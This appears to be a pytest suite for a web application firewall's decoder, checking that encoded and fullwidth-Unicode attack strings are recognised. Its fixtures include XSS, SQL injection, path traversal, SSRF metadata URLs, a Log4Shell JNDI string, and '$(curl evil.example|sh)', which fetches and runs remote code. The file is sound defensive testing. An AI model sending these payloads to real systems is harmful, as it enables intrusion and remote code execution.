"""Decoding as a search (node/detect/readings.py): each layer, their combinations, the clean
filter, and every bound, which must make the verdict partial instead of clean."""

from __future__ import annotations

import base64
import json
import urllib.parse

import pytest

from wallarm_wire.protocol import RequestMessage
from node.detect import readings as rd
from node.detect.engine import Engine
from node.detect.request import extract

SCRIPT = "<script>alert(document.cookie)</script>"
SQL = "1' or '1'='1"


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def b64url(text: str) -> str:
    return base64.urlsafe_b64encode(text.encode()).decode().rstrip("=")


def url(text: str) -> str:
    return urllib.parse.quote(text, safe="")


def js_unicode(text: str) -> str:
    return "".join(f"\\u{ord(c):04x}" for c in text)


def forms(value: str, kind: str = "query") -> list[str]:
    return rd.readings(value, kind).forms


@pytest.fixture(scope="module")
def engine() -> Engine:
    return Engine()


# ---------------------------------------------------------------------------- each layer


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (url(url(url(SCRIPT))), SCRIPT),  # URL, repeated
        (b64(SCRIPT), SCRIPT),  # base64, padded
        (b64(SCRIPT).rstrip("="), SCRIPT),  # base64 without padding (GoTestWAF's Base64Flat)
        ("'{\"id\":\"L2V0Yy9wYXNzd2Q=\"}'", "/etc/passwd"),  # a token inside text, its padding counted
        (b64url(SQL + "??>"), SQL + "??>"),  # base64url
        (js_unicode(SCRIPT), SCRIPT),  # \uXXXX
        ("\\x3cscript\\x3e", "<script>"),  # \xXX
        ("\\u{3c}script\\u{00003e}", "<script>"),  # ES6 code point escapes
        ("&lt;script&gt;", "<script>"),  # named entities
        ("&#60;script&#x3E;", "<script>"),  # decimal, hex
        ("&#60script&#x3e", "<script>"),  # no semicolons, as browsers accept
        ("&ltscript&gt", "<script>"),  # legacy names without semicolon
        (json.dumps(SQL), SQL),  # a JSON string literal serialized in the value
        (json.dumps({"q": {"r": SQL}}), SQL),  # a JSON document in the value: its strings
        ("<a><b x='1'>" + SQL.replace("'", "&apos;") + "</b></a>", SQL),  # XML text, entities undone
        ("<a><b x=\"" + SQL.replace("'", "&apos;") + "\"/></a>", SQL),  # an XML attribute
        ("<a><![CDATA[" + SQL + "]]></a>", SQL),  # CDATA
    ],
)
def test_each_layer_is_read(value: str, expected: str) -> None:
    assert expected in forms(value), forms(value)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (b64(url(SCRIPT)), SCRIPT),  # base64 of URL-encoded
        (url(js_unicode(SCRIPT)), SCRIPT),  # URL-encoding of JSUnicode
        (url(b64(SQL)), SQL),  # URL-encoding of base64
        (b64(json.dumps({"id": b64(SQL)})), SQL),  # base64 of JSON holding base64
        (json.dumps({"soap": "<e><b>" + js_unicode(SCRIPT) + "</b></e>"}), SCRIPT),  # XML in JSON, JS escapes
        (b64("<r><q>" + SQL.replace("'", "&#x27;") + "</q></r>"), SQL),  # base64 of XML with entities
    ],
)
def test_layers_combine(value: str, expected: str) -> None:
    assert expected in forms(value), forms(value)


def test_base64_in_url_paths(engine: Engine) -> None:
    # a whole segment, padded or not, and a base64 run holding '/' after the route's prefix
    assert SCRIPT in forms("/api/v1/files/" + b64(SCRIPT), "path")
    assert SCRIPT in forms("/api/v1/files/" + b64(SCRIPT).rstrip("=") + "/view", "path")
    slashed = "/api/" + b64("<svg/onload=alert(1)>???>>>>>?")
    assert "/" in slashed[5:] and "<svg/onload=alert(1)>???>>>>>?" in forms(slashed, "path")
    det = engine.analyze_request(RequestMessage("GET", "/api/v1/files/" + b64(SCRIPT), [(b"Host", b"a")]))
    assert det.is_attack


def test_a_path_tail_is_read_from_its_first_odd_segment() -> None:
    assert "1) AND/*x*/1=0/*!*/oR/**/1=1" in forms("/api/v1/files/1) AND/*x*/1=0/*!*/oR/**/1=1", "path")
    assert forms("/static/js/app.min.js", "path") == ["/static/js/app.min.js"]


def test_a_json_object_that_repeats_a_key_keeps_every_value() -> None:
    body = json.dumps({"page": SQL}).encode()[:-1] + b', "page": 1}'
    msg = RequestMessage("POST", "/api", [(b"Content-Type", b"application/json")], body)
    assert ("json", "json.page", SQL) in extract(msg).fields
    assert SQL in forms('{"a": "' + SQL + '", "a": 2}')


def test_pieces_are_judged_alone_and_joined_without_line_breaks() -> None:
    doc = {f"k{i}": f"v {i}!" for i in range(20)} | {"x": "1 or 1=1"}
    out = forms(json.dumps(doc))
    assert "v 0!" in out and "v 5!" in out  # the first SEPARATE_PIECES read alone
    joined = [f for f in out if rd.PIECE_SEPARATOR in f]
    assert joined and all("\n" not in f for f in joined) and "1 or 1=1" in joined[0]


# ---------------------------------------------------------------------------- clean readings only


def test_only_clean_decodings_are_kept() -> None:
    png = base64.b64encode(bytes(range(256)) * 4).decode()  # binary: not text
    assert forms(png) == [png]
    sha = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"  # hex: never tried
    assert forms("id=" + sha) == ["id=" + sha]
    assert forms("{not json]") == ["{not json]"]
    assert forms("/products/electronics/televisions", "path") == ["/products/electronics/televisions"]


# ---------------------------------------------------------------------------- bounds


def _nested_base64(text: str, times: int) -> str:
    for _ in range(times):
        text = b64(text)
    return text


def test_layers_within_the_bound_are_read_whole() -> None:
    found = rd.readings(_nested_base64(SQL, rd.MAX_LAYERS))
    assert SQL in found.forms and not found.cut


def test_layers_past_the_bound_are_a_cut() -> None:
    found = rd.readings(_nested_base64(SCRIPT, rd.MAX_LAYERS + 2))
    assert found.cut and SCRIPT not in found.forms


def test_escape_rounds_past_the_bound_are_a_cut() -> None:
    inside = "%" + "25" * (rd.MAX_ROUNDS - 1) + "3C"  # MAX_ROUNDS rounds to '<'
    assert "<" in rd.readings(inside).forms and not rd.readings(inside).cut
    deep = "%" + "25" * (rd.MAX_ROUNDS + 1) + "3C"
    assert rd.readings(deep).cut


def test_readings_past_the_form_bound_are_a_cut(monkeypatch: pytest.MonkeyPatch) -> None:
    value = json.dumps({"a": b64(SQL), "b": b64(SCRIPT), "c": url(url(SCRIPT))})
    assert not rd.readings(value).cut
    monkeypatch.setattr(rd, "MAX_FORMS", 3)
    found = rd.readings(value)
    assert found.cut and len(found.forms) == 3


def test_work_past_the_budget_is_a_cut(monkeypatch: pytest.MonkeyPatch) -> None:
    value = b64(url(SCRIPT) * 20)
    monkeypatch.setattr(rd, "WORK_BASE", 0)
    monkeypatch.setattr(rd, "WORK_FACTOR", 1)
    assert rd.readings(value).cut


def test_a_json_walk_past_its_bound_is_a_cut(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(rd, "MAX_JSON_NODES", 10)
    assert rd.readings(json.dumps([f"x{i}!" for i in range(50)])).cut


def test_an_xml_walk_stops_at_its_bound_and_the_text_is_still_judged(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(rd, "MAX_XML_TOKENS", 10)
    value = "<a>" + "<b>x!</b>" * 20 + "<q>" + SQL.replace("'", "&apos;") + "</q></a>"
    found = rd.readings(value)
    assert not found.cut and SQL not in found.forms  # not cut into pieces that far ...
    assert any(SQL in form for form in found.forms)  # ... but judged, entities undone


def test_a_path_is_read_as_base64_after_its_first_slashes() -> None:
    encoded = b64("<svg/onload=alert(1)>???>>>>>?")
    assert "/" in encoded  # the base64 run spans segments
    near = "/" + "/".join(["r"] * (rd.MAX_PATH_SUFFIXES - 2)) + "/" + encoded
    assert "<svg/onload=alert(1)>???>>>>>?" in forms(near, "path")
    # a route's fixed prefix is shorter: later starts are not read (and cost nothing)
    far = "/" + "/".join(["r"] * (rd.MAX_PATH_SUFFIXES + 2)) + "/" + encoded
    assert "<svg/onload=alert(1)>???>>>>>?" not in forms(far, "path")


def test_a_cut_makes_the_verdict_partial_and_uncached(engine: Engine) -> None:
    deep = url(url(url(url(url(url(url(url(url(url("<x>"))))))))))
    msg = RequestMessage("GET", "/search?q=" + url(deep), [(b"Host", b"a")])
    first = engine.analyze_request(msg)
    assert "decode" in first.partial
    assert "decode" in engine.analyze_request(msg).partial  # judged again, not a cached clean


# ---------------------------------------------------------------------------- placements


def _placed(payload: str, placement: str) -> RequestMessage:
    host = (b"Host", b"app.example")
    if placement == "path":
        return RequestMessage("GET", "/api/v1/items/" + url(payload), [host])
    if placement == "query":
        return RequestMessage("GET", "/search?q=" + url(payload), [host])
    if placement == "header":
        return RequestMessage("GET", "/", [host, (b"X-Filter", payload.encode())])
    if placement == "user-agent":
        return RequestMessage("GET", "/", [host, (b"User-Agent", payload.encode())])
    if placement == "form":
        return RequestMessage("POST", "/f", [host, (b"Content-Type", b"application/x-www-form-urlencoded")],
                              ("q=" + url(payload)).encode())
    if placement == "multipart":
        body = f'--B\r\nContent-Disposition: form-data; name="q"\r\n\r\n{payload}\r\n--B--\r\n'.encode()
        return RequestMessage("POST", "/m", [host, (b"Content-Type", b"multipart/form-data; boundary=B")], body)
    if placement == "json":
        return RequestMessage("POST", "/j", [host, (b"Content-Type", b"application/json")],
                              json.dumps({"q": payload}).encode())
    if placement == "soap":
        body = ('<?xml version="1.0"?><soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/">'
                f"<soapenv:Body><ns:Find><ns:q>{payload.replace('&', '&amp;').replace('<', '&lt;')}</ns:q>"
                "</ns:Find></soapenv:Body></soapenv:Envelope>")
        return RequestMessage("POST", "/ws", [host, (b"Content-Type", b"text/xml")], body.encode())
    assert placement == "raw"
    return RequestMessage("POST", "/raw", [host], payload.encode())


ENCODERS = {"plain": lambda v: v, "url": url, "base64": b64, "base64flat": lambda v: b64(v).rstrip("=")}


@pytest.mark.parametrize("placement", ["path", "query", "header", "user-agent", "form", "multipart", "json", "soap", "raw"])
@pytest.mark.parametrize("encoding", list(ENCODERS))
def test_every_placement_understands_every_encoding(engine: Engine, placement: str, encoding: str) -> None:
    det = engine.analyze_request(_placed(ENCODERS[encoding](SCRIPT), placement))
    assert det.is_attack, (placement, encoding, det)


def test_json_unicode_and_xml_entity_encodings(engine: Engine) -> None:
    body = '{"q": "' + js_unicode(SCRIPT) + '"}'
    assert engine.analyze_request(RequestMessage("POST", "/j", [(b"Content-Type", b"application/json")],
                                                 body.encode())).is_attack
    xml = "<r><q>" + "".join(f"&#x{ord(c):x};" for c in SCRIPT) + "</q></r>"
    assert engine.analyze_request(RequestMessage("POST", "/x", [(b"Content-Type", b"application/xml")],
                                                 xml.encode())).is_attack


def test_a_body_without_a_type_is_judged_whole_and_as_xml_when_xml_shaped() -> None:
    raw = extract(RequestMessage("POST", "/", [], b"x=1 ' or 1=1--"))
    assert ("body", "body", "x=1 ' or 1=1--") in raw.fields
    soap = b"<Envelope><Body><q>a</q></Body></Envelope>"
    fields = extract(RequestMessage("POST", "/", [(b"Content-Type", b"text/plain")], soap)).fields
    assert ("xml", "xml.Envelope.Body.q", "a") in fields


def test_path_canonical_copies_are_read_by_the_path_and_host_analysers_only(engine: Engine) -> None:
    # prose whose only look-alike is the ideographic full stop: its '.' copy is listed apart,
    # and the text analysers read the prose once
    value = "见 http://169。254。169。254/ 和 x' or 1=1 --"
    found = rd.readings(value, "json")
    copy = value.replace("。", ".")
    assert copy in found.forms and found.canonical == frozenset({copy})
    assert engine._detector_texts("sqli", found) == [value]
    assert copy in engine._detector_texts("ssrf", found)
    # ... and the path analyser still reads look-alike traversals through them
    assert engine.analyze_value("..／..／..／etc／passwd", "query.f").attacks
    assert engine.analyze_value("http://169。254。169。254/latest/meta-data/", "query.u").attacks


def test_a_decoding_that_equals_a_canonical_copy_is_read_by_every_analyser() -> None:
    search = rd._Search("x", False, True)
    search.add("a")
    search.canonical.add("a")
    search.add("a")  # a decoding reached the same text: it is no mere look-alike copy
    assert "a" not in search.canonical


def test_nul_bytes_dropped_are_a_reading_for_every_analyser(engine: Engine) -> None:
    value = '" autofocus onfocus\x00=(alert)(1)//'
    found = rd.readings(value, "query")
    dropped = value.replace("\x00", "")
    assert dropped in found.forms and dropped not in found.canonical
    assert engine.analyze_value(value).attacks
    assert engine.analyze_value("%22+autofocus+onfocus%00%3d%28alert%29%281%29%2F%2F").attacks


def test_path_segment_tokens_equal_a_token_walk_on_random_paths() -> None:
    # _segment_tokens_decoded finds a path's tokens and whether each is a whole segment in one
    # findall; the walk it replaced read each run and its neighbours in Python
    import random
    import re

    run_re = re.compile(r"[A-Za-z0-9+_\-]{8,}={0,2}")

    def walk(path: str) -> list[str]:
        out: list[str] = []
        tried: set[str] = set()
        for m in run_re.finditer(path):
            tok, (start, end) = m.group(0), m.span()
            whole = (start == 0 or path[start - 1] == "/") and (end == len(path) or path[end] == "/")
            if (whole or len(tok) >= 16) and tok.lower() != tok and tok not in tried and rd._worth(tok):
                tried.add(tok)
                d = rd._token_decoded(tok)
                if d and (whole or not d.isalnum()):
                    out.append(d)
        return out

    rnd = random.Random(2)
    for _ in range(20_000):
        parts = []
        for _ in range(rnd.randint(0, 5)):
            if rnd.random() < 0.3:
                raw = bytes(rnd.choice(b"abc ;'<>()/id") for _ in range(rnd.randint(1, 20)))
                parts.append(base64.b64encode(raw).decode().rstrip("=" if rnd.random() < 0.5 else ""))
            else:
                parts.append("".join(rnd.choice("aB0=+_-./") for _ in range(rnd.randint(0, 20))))
        path = ("/" if rnd.random() < 0.8 else "") + rnd.choice("/.=").join(parts)
        assert rd._segment_tokens_decoded(path, set()) == walk(path), path


def test_a_path_tail_needs_an_odd_character_found_by_either_test() -> None:
    # the translate pre-test and the regex agree on every ASCII character
    for code in range(128):
        path = f"/api/v1/x{chr(code)}y/z"
        assert (rd._path_tail(path) is not None) == (rd._ODD_SEGMENT_RE.search(path) is not None)


# ---------------------------------------------------------------------------- compatibility folds


def fullwidth(text: str) -> str:
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text)


@pytest.mark.parametrize("payload", [
    SCRIPT, SQL, "1 UNION SELECT username,password FROM users--", ";cat /etc/passwd", "$(curl evil.example|sh)",
    "../../../../etc/passwd", "{{config.__class__.__init__.__globals__}}", "${jndi:ldap://evil.example/a}",
    "http://169.254.169.254/latest/meta-data/",
])
def test_fullwidth_payloads_are_read_as_their_fold(engine: Engine, payload: str) -> None:
    # IIS's best-fit mapping and NFKC-normalising backends read `＜ｓｃｒｉｐｔ＞` as `<script>`
    assert engine.analyze_value(fullwidth(payload)).attacks
    assert engine.analyze_value(url(fullwidth(payload))).attacks  # %EF%BC%9C...
    h = [(b"Host", b"app.example"), (b"Content-Type", b"application/json")]
    body = json.dumps({"q": fullwidth(payload)}).encode()  # \uff1c...: folded once unescaped
    assert engine.analyze_request(RequestMessage("POST", "/api", h, body)).attacks


def test_mixed_and_mathematical_forms_fold(engine: Engine) -> None:
    assert engine.analyze_value("<img src=x onerror=alert（1）>").attacks  # only the brackets
    assert engine.analyze_value("𝐣𝐚𝐯𝐚𝐬𝐜𝐫𝐢𝐩𝐭:alert(1)", "query.url").attacks  # past U+FFFF
    assert engine.analyze_value("‥/‥/‥/etc/passwd", "query.file").attacks  # two-dot leaders


def test_prose_with_fullwidth_punctuation_stays_clean(engine: Engine) -> None:
    for text in ["域名必须要备案吗？（如：云服务器／轻量应用服务器…）有效时长需大于（含）1个月；请核对。",
                 "价格：１２０元，数量：３（含税）！", "½ cup of sugar, 2² = 4, µg", "Ｗｉ-Ｆｉ密码：ａｂｃ１２３"]:
        assert not engine.analyze_value(text, "json.text", "json").attacks, text


def test_the_analysers_read_the_fold_in_place_of_the_text(engine: Engine) -> None:
    value = "x（1）y"
    found = rd.readings(value, "json")
    assert found.forms[:2] == [value, "x(1)y"] and found.folded_away == frozenset({value})
    for detector in ("sqli", "xss", "shell"):
        assert value not in engine._detector_texts(detector, rd.Readings([value, "1' or 1=1 <script>"], False,
                                                                         folded_away=frozenset({value})))
    # the path and host analysers read both: a spelling can be the finding (`①②⑦.⓪.⓪.①`)
    ssrf = rd.readings("http://①②⑦.⓪.⓪.①/", "query")
    assert set(engine._detector_texts("ssrf", ssrf)) == {"http://①②⑦.⓪.⓪.①/", "http://127.0.0.1/"}


def test_prose_punctuation_between_words_asks_for_no_fold() -> None:
    assert rd._folded("文（注）释") is None and rd._folded("服务器／轻量，备案") is None
    assert rd._folded("备案吗？\"") is None and rd._folded(">（如：云") is None  # a quote, a tag bracket
    assert rd._folded("alert（1）") == "alert(1)" and rd._folded("中；cat") == "中;cat"
    assert rd._folded("文（注）ａ") == "文(注)a"  # a fullwidth letter asks: the whole text is folded
    assert rd._folded("（文") == "(文" and rd._folded("文）") == "文)"  # at either end
    assert rd._folded("½ cup, µg, ª") is None  # Latin-1 makes no syntax


def test_the_fold_is_nfkc_of_a_text_that_asks_for_it() -> None:
    import random
    import unicodedata

    rng = random.Random(11)
    pool = [chr(c) for c in range(0x20, 0x3000)] + [chr(c) for c in range(0xFF00, 0xFFF0)] + \
        [chr(c) for c in range(0x1D400, 0x1D800)] + ["中", "文", "\u0301", "\u0338"]
    folds = 0
    for _ in range(3000):
        text = "".join(rng.choice(pool) for _ in range(rng.randint(1, 12)))
        folded = rd._folded(text)
        if folded is not None:
            folds += 1
            assert folded == unicodedata.normalize("NFKC", text), repr(text)
        elif any(c in rd._COMPAT and c not in rd._PROSE_PUNCT for c in text):
            raise AssertionError(f"{text!r} has a fold that makes ASCII and was not folded")
    assert folds > 1000


def test_a_long_fullwidth_value_folds_in_linear_time(engine: Engine) -> None:
    import time

    for size in (1 << 10, 1 << 20):
        text = ("ａ，" * size)[:size]
        started = time.thread_time()
        rd._folded.cache_clear()
        assert rd._folded(text) == ("a," * size)[:size]
        assert time.thread_time() - started < 0.5
